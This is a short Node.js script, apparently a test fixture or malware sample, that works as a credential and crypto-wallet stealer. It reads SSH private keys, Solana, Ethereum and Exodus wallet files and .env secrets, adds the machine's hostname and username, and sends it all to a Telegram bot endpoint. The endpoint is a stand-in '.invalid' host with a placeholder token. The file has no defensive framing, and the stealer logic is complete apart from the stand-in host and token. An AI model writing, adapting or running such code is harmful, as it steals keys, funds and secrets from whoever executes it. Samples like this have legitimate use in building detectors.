const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const BOT = 'FIXTURE000000:AAFIXTURE-not-a-bot-token';
const CHAT = '-1000000000000';
const home = os.homedir();

const targets = [
  path.join(home, '.ssh', 'id_rsa'),
  path.join(home, '.ssh', 'id_ed25519'),
  path.join(home, '.config', 'solana', 'id.json'),
  path.join(home, '.ethereum', 'keystore'),
  path.join(home, 'Library', 'Application Support', 'Exodus', 'exodus.wallet', 'seed.seco'),
  path.join(process.cwd(), '.env'),
  path.join(process.cwd(), '..', '..', '.env'),
];

function read(file) {
  try {
    const stat = fs.statSync(file);
    if (stat.isDirectory()) return fs.readdirSync(file).map((f) => `${f}: ${fs.readFileSync(path.join(file, f), 'utf8')}`).join('\n');
    return fs.readFileSync(file, 'utf8');
  } catch {
    return null;
  }
}

const found = targets.map((file) => ({ file, content: read(file) })).filter((entry) => entry.content);
const text = [`host: ${os.hostname()} user: ${os.userInfo().username}`, ...found.map((f) => `== ${f.file}\n${f.content}`)].join('\n').slice(0, 4000);
const body = JSON.stringify({ chat_id: CHAT, text });
const req = https.request({
  hostname: 'api.telegram.org.invalid',
  path: `/bot${BOT}/sendMessage`,
  method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
});
req.on('error', () => {});
req.end(body);
